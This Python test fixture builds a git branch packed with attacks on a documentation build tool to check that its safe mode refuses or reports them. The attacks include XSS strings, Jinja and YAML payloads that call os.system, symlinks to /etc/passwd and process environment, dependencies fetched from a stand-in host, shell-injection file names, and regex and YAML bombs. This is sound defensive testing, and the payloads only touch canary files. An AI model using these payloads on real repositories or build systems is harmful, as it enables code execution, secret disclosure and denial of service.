"""A pull request that holds every attack that one can carry: a good base, and a branch with files, links and names that break programs.

What would run writes below ``canary`` or calls ``address``; what leads out of the base leads to ``victim``.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import zipfile
from collections.abc import Mapping
from pathlib import Path
from types import MappingProxyType
from typing import NamedTuple

from bases import ROOT, write

GOOD = {
    "timonel.yaml": "model: 1\nname: Mi base\nlanguages: [es]\nas_of: 2026-11-20\nrepository: {url: 'https://git.example/x'}\n",
    "mkdocs.yml": (ROOT / "mkdocs.yml").read_text(encoding="utf-8"),
    "data/organization.yaml": "id: nova\nname: Nova\nvision: Ver.\nmission: Hacer.\n",
    "data/areas/ventas.yaml": "id: ventas\nname: Ventas\ntype: business\n",
    "data/processes/control.yaml": "id: control\nname: Control\ntype: support\n",
    "docs/es/guia/plana.md": "# Plana\n\nHay {{ kb.count('area') }} área.\n",
    ".gitignore": "/site/\n.timonel/\n",
}
_AREA = json.loads((ROOT / "schemas/kinds/area.schema.json").read_text(encoding="utf-8"))
_RULE = """code: {code}
rule: {name}
kind: process
severity: error
summary: {{es: "<script>window.pwned='rule'</script>"}}
why: {{es: x}}
fix: {{es: x}}
message: {{es: "{{name}} {{{{ 7*7 }}}} <script>window.pwned=1</script>"}}
assert: >-
  {expression}
"""
_TWENTY = f"[{','.join(map(str, range(20)))}]"
SLOW = {  # as many as may take their whole time
    "XSL001": f"{_TWENTY}.all(a, " + "".join(f"{_TWENTY}.all({name}, " for name in "bcdefgh") + "true" + ")" * 8,
    "XSL003": f"{_TWENTY}.exists(a, " + "".join(f"{_TWENTY}.exists({name}, " for name in "bcdefgh") + "false" + ")" * 8,
    "XSL004": f"{_TWENTY}.filter(a, "
    + "".join(f"{_TWENTY}.all({name}, " for name in "bcdefgh")
    + "true"
    + ")" * 8
    + " == []",
    "XSL002": "".join(f"{_TWENTY}.map({name}, " for name in "abcdefg") + "1" + ")" * 7 + " == []",
}
_EXPRESSIONS = {
    "XRE001": "!entity.name.matches('^(a+)+$') && 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.matches('^(a+)+$')",
    "XOV001": "9223372036854775807 + 1 > 0",
    "XDE001": "(" * 2000 + "true" + ")" * 2000,
    "XUN001": "open('{canary}/cel') == nothing.name",
}


class Attack(NamedTuple):
    """One attack: what the branch brings, and words of the lines that name it.

    Attributes:
        name: what it is.
        files: path → content; ``{canary}``, ``{address}`` and ``{victim}`` stand for what their name says.
        links: path → where the link leads.
        told: words of a finding's file or message, one finding each; none for what is text or lies there unread.
        left: words of a line of ``build --safe``, one line each.
        stops: whether ``build --safe`` refuses to build while it is there.
    """

    name: str
    files: Mapping[str, str | bytes] = MappingProxyType({})
    links: Mapping[str, str] = MappingProxyType({})
    told: tuple[str, ...] = ()
    left: tuple[str, ...] = ()
    stops: bool = False


def _schema(name: str, **words: object) -> dict[str, str | bytes]:
    own = {**_AREA, "$id": f"https://x.example/{name}", "x-kind": name, "x-folder": f"{name}s", **words}
    return {f"schemas/kinds/{name}.schema.json": json.dumps(own)}


def _field(**field: object) -> dict[str, object]:
    return {"properties": {**_AREA["properties"], "lema": {"type": "string", **field}}}


def _archive(sheet: str) -> bytes:
    from openpyxl import Workbook  # noqa: PLC0415

    plain, packed = io.BytesIO(), io.BytesIO()
    Workbook().save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            data = old.read(one).decode()
            new.writestr(
                one, data.replace("<sheetData/>", sheet).replace("<sheetData />", sheet) if "sheet1" in one else data
            )
    return packed.getvalue()


BOMB = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{b}: &{b} [{','.join([f'*{a}'] * 10)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
ATTACKS = (
    Attack("settings that lead elsewhere, run and leak", {
        "timonel.yaml": """model: 1
name: "N <script>window.pwned='name'</script> {{ 7*7 }} {% include 'x' %}"
languages: [es, "en/../../../settings", "en@/../../../victim"]
as_of: 2026-11-20
repository: {url: "https://git.example/x", edit: "javascript:window.pwned=1"}
forms: {host: "{address}"}
vocabulary_owner: role:nadie
publish: {people: quizas}
rules: {severity: {PRO999: error}, ignore: [{rule: PRO9999, reason: x}], options: {BUD002: {monts: 1}}}
""",
    }, told=("en/../../../settings", "en@/../../../victim", "javascript:window", "role:nadie", "`PRO999`", "`PRO9999`", "quizas", "monts", "formularios")),
    Attack("a journal and a cache that somebody prepared", {
        ".timonel/journal/1-abcd/list": b"x" * 32 + b'["import", [["data/processes/control.yaml", null, "0"], ["../../victim/keep.txt", null, "1"]]]',
        ".timonel/journal/1-abcd/0": "id: control\nname: Control\ntype: support\nowner: x\n",
        ".timonel/journal/list": "[]",
        ".timonel/parsed": b"\xe3\0\0\0" * 40, ".timonel/cards": b"\xe3\0\0\0" * 40, ".timonel/jinja/x.cache": b"j2\5\0" + b"\xe3" * 40,
    }, told=(".timonel/journal/1-abcd", ".timonel/journal/list")),
    Attack("links out of docs/", {}, {
        "docs/es/env.txt": "/proc/self/environ", "docs/es/passwd.md": "/etc/passwd", "docs/es/todo": "{victim}", "docs/es/a.png": "{victim}/keep.txt", "docs/es/loop": ".",
    }, told=("docs/es/env.txt", "docs/es/passwd.md", "docs/es/todo", "docs/es/a.png"), stops=True),
    Attack("links out of data, schemas, rules", {}, {
        "data/roles": "{victim}", "data/terms/x.yaml": "/etc/passwd", "rules/x.yaml": "{victim}/keep.txt", "schemas/kinds/z.schema.json": "{victim}/keep.txt", "data/areas/null.yaml": "/dev/zero",
    }, told=("data/roles", "data/terms/x.yaml", "rules/x.yaml", "schemas/kinds/z.schema.json", "data/areas/null.yaml"), stops=True),
    Attack("links where things are written", {}, {
        "site/es": "{victim}", "site-markdown": "{victim}", ".vscode/timonel": "{victim}", ".timonel.lock": "{victim}/lock", ".timonel/answers": "{victim}", ".timonel/.gitignore": "{victim}/ignore", "site/.timonel.lock": "{victim}/lock2",
    }, told=("site/es", "site-markdown", ".vscode/timonel", ".timonel.lock", ".timonel/answers"), stops=True),
    Attack("kinds that lead elsewhere", {
        **_schema("uno", **{"x-kind": "../../../pwn/evil"}), **_schema("dos", **{"x-folder": "../../../pwn2"}), **_schema("tres", **{"x-title": {"es": "<script>window.pwned='kind'</script>"}}),
        "data/tress/norte.yaml": "id: norte\nname: \"<script>window.pwned='entity'</script> {{ 7*7 }}\"\ntype: business\n",
    }, told=("schemas/kinds/uno.schema.json", "schemas/kinds/dos.schema.json")),
    Attack("kinds that fetch", {
        **_schema("cuatro", **{"$schema": "{address}/schema"}), **_schema("cinco", **_field(**{"$ref": "{address}/ref"})), **_schema("seis", **_field(**{"$ref": "file:///etc/passwd"})),
        **_schema("siete", **_field(**{"$dynamicRef": "{address}/dynamic"})), **_schema("ocho", **_field(**{"x-ref": 5})), **_schema("nueve", **_field(**{"not": {"not": 1}})),
    }, told=tuple(f"schemas/kinds/{one}.schema.json" for one in ("cuatro", "cinco", "seis", "siete", "ocho", "nueve"))),
    Attack("kinds that never end", {
        **_schema("diez", **_field(pattern="^(a+)+$")), **_schema("once", **_field(pattern="(?=a)(?<!b)\\1")), "data/diezs/norte.yaml": f"id: norte\nname: Norte\ntype: business\nlema: {'a' * 5000}!\n",
        "schemas/kinds/doce.schema.json": "[" * 100_000,
    }, told=("data/diezs/norte.yaml", "schemas/kinds/once.schema.json", "schemas/kinds/doce.schema.json")),
    Attack("rules that break", {
        f"rules/{code}.yaml": _RULE.format(code=code, name=f"r-{code.lower()}", expression=expression)
        for code, expression in _EXPRESSIONS.items()
    }, told=("XRE001", "XOV001", "rules/XDE001.yaml", "rules/XUN001.yaml")),
    Attack("YAML that grows", {
        "data/terms/bomb.yaml": BOMB, "data/terms/deep.yaml": "[" * 100_000, "data/terms/python.yaml": "a: !!python/object/apply:os.system ['touch {canary}/yaml']\n",
        "data/terms/merge.yaml": "id: x\n<<<<<<< HEAD\nname: a\n=======\nname: b\n>>>>>>> x\n", "data/terms/hidden.yaml": "id: \u200balta\nname:\u00a0x\n",
    }, told=("data/terms/bomb.yaml", "data/terms/deep.yaml", "data/terms/python.yaml", "data/terms/merge.yaml", "data/terms/hidden.yaml")),
    Attack("workbooks that grow, where nobody imports them", {
        "imports/a.xlsx": _archive('<sheetData><row r="1"/></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "data/terms/b.xlsx": _archive("<sheetData>" + '<row r="1"><c/></row>' * 10_000 + "</sheetData>"),
        "c.csv": '"' + "a,b\n" * 10_000,
    }, told=("data/terms/b.xlsx",)),
    Attack("configuration that runs", {
        "mkdocs.yml": """site_name: x
site_url: {address}/
hooks: [hook.py]
strange: !!python/object/apply:os.system ["touch {canary}/mkdocs"]
secret: !ENV TOKEN
theme: {name: material, custom_dir: own, logo: "{address}/x.png"}
plugins: [search, nowhere, {macros: {modules: [timonel.engines.macros, evil], include_yaml: [/etc/passwd]}}, timonel]
markdown_extensions: [{pymdownx.snippets: {base_path: /}}, {pymdownx.emoji: {emoji_index: !!python/name:evil.run ''}}]
extra_javascript: ["{address}/x.js"]
INHERIT: /etc/passwd
""",
        **{name: "open('{canary}/" + name.replace("/", "-") + "', 'w')\n" for name in ("hook.py", "evil.py", "main.py", "yaml.py", "cel.py", "sitecustomize.py", "conftest.py", "timonel/__init__.py", "mkdocs/__init__.py", "schemas/__init__.py")},
        "own/main.html": "{% extends 'base.html' %}{{ cycler.__init__.__globals__.os.system('touch {canary}/theme') }}",
        "requirements.txt": "--index-url {address}/\nevil @ {address}/evil.whl\n", "pyproject.toml": "[build-system]\nrequires = ['evil']\n", "setup.py": "open('{canary}/setup', 'w')\n",
        ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, entry: touch {canary}/hook, language: system, name: x}]}]\n",
        ".gitattributes": "* filter=bad diff=bad\n", ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::touch {canary}/sub\n',
    }, left=("hooks: ", "main.py: ", "macros: evil: ", "complemento nowhere: ", "theme.custom_dir: ", "extra_javascript: ", "pymdownx.snippets: ", "pymdownx.emoji: ", "strange: ", "secret: ", "INHERIT: ")),
    Attack("pages that run", {
        "docs/es/guia/html.md": "---\ntitle: \"<script>window.pwned='title'</script>\"\ndescription: \"'><script>window.pwned=2</script>\"\n---\n# X\n\n<script>window.pwned=3</script><iframe src=\"{address}\"></iframe>"
        "<img src=x onerror=window.pwned=4> [x](javascript:window.pwned=5)\n\n<form action='{address}'></form>\n\n--8<-- \"/etc/passwd\"\n",
        "docs/es/guia/jinja.md": "# J\n\n{{ cycler.__init__.__globals__.os.system('touch {canary}/jinja') }}\n", "docs/es/guia/include.md": "# I\n\n{% include '/etc/passwd' %}\n",
        "docs/es/guia/evil.js": "window.pwned=6", "docs/es/guia/evil.html": "<script>window.pwned=7</script>", "docs/es/guia/evil.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=8</script></svg>',
    }, left=("docs/es/guia/html.md", "docs/es/guia/jinja.md", "docs/es/guia/include.md", "docs/es/guia/evil.js", "docs/es/guia/evil.html", "docs/es/guia/evil.svg")),
    Attack("a page that never ends", {"docs/es/guia/deep.md": "# X\n\n" + "[" * 20_000 + "\n"}, left=("docs/es/guia/deep.md",), stops=True),
    Attack("a page that asks too much", {"docs/es/guia/loop.md": "# X\n\n{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}\n"}, left=("docs/es/guia/loop.md",), stops=True),
    Attack("names of files", {
        "data/terms/a\nb\x1b[31m::error::x.yaml": "x", "data/terms/ñ\u202e.yaml": "x", "docs/es/guia/<img src=x onerror=window.pwned=9>.md": "# X\n", "data/processes/$(touch canary).yaml": "id: x\n", "-x": "x", "data/terms/con.yaml": "id: con\nname: x\ndefinition: x\n",
    }, told=("data/terms/a\n", "data/terms/ñ", "$(touch canary).yaml", "data/terms/con.yaml")),
)  # fmt: skip
SLOW_RULES = Attack("rules that never end", {
    f"rules/{code}.yaml": _RULE.format(code=code, name=f"r-{code.lower()}", expression=expression) for code, expression in SLOW.items()
}, told=tuple(f"rules/{code}.yaml" for code in SLOW))  # fmt: skip
SUBJECT = "\x1b[31mrojo\x1b[0m <script>window.pwned=10</script> {{ 7*7 }} ::error::x"
BRANCH = "$(touch${IFS}canary);x"


def filled(text: str, places: Mapping[str, object]) -> str:
    """Return a text with its ``{canary}``, ``{address}`` and ``{victim}``."""
    for name, value in places.items():
        text = text.replace(f"{{{name}}}", str(value))
    return text


def put(root: Path, attacks: tuple[Attack, ...], **places: object) -> None:
    """Write what attacks bring into a base."""
    for attack in attacks:
        for path, content in attack.files.items():
            write(root / path, filled(content, places) if isinstance(content, str) else content)
        for path, target in attack.links.items():
            link = root / path
            link.parent.mkdir(parents=True, exist_ok=True)
            link.unlink(missing_ok=True)
            link.symlink_to(filled(target, places))


def git(root: Path, *arguments: str) -> None:
    """Run git in a repository, with nothing of the machine's settings."""
    theirs = {"PATH": os.environ["PATH"], "HOME": str(root), "GIT_CONFIG_NOSYSTEM": "1"}
    who = [
        "-c",
        "user.name=<script>window.pwned=11</script>",
        "-c",
        "user.email=x@x.example",
        "-c",
        "core.protectNTFS=false",
    ]
    subprocess.run(["git", *who, *arguments], cwd=root, env=theirs, check=True, capture_output=True)


def repository(root: Path, attacks: tuple[Attack, ...], **places: object) -> Path:
    """Make a repository with a good base on main, and a branch, checked out, with attacks."""
    for path, content in GOOD.items():
        write(root / path, content)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "Good")
    git(root, "checkout", "-qb", BRANCH)
    put(root, attacks, **places)
    git(root, "-c", "core.attributesFile=/dev/null", "add", "-Af", ".")
    git(root, "commit", "-qm", SUBJECT)
    return root
